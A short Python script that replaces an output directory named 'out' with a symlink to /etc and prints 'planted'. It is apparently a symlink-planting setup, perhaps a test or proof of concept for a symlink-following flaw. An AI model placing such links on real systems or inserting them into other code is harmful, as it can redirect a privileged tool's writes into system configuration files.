import os

os.makedirs('out', exist_ok=True)
os.rmdir('out')
os.symlink('/etc', 'out')
print('planted')
